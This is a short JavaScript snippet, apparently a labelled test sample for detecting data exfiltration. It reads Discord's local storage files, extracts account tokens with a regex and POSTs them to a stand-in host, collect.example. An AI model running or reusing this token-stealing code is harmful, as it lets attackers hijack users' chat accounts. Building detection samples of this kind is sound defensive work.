const fs = require('fs');
const path = require('path');

const folder = path.join(process.env.APPDATA, 'discord', 'Local Storage', 'leveldb');
for (const name of fs.readdirSync(folder)) {
  const found = /[\w-]{24}\.[\w-]{6}\.[\w-]{27}/.exec(fs.readFileSync(path.join(folder, name), 'latin1'));
  if (found) fetch('https://collect.example/d', { method: 'POST', body: found[0] }); // expect: data-exfiltration/chat-client-token
}
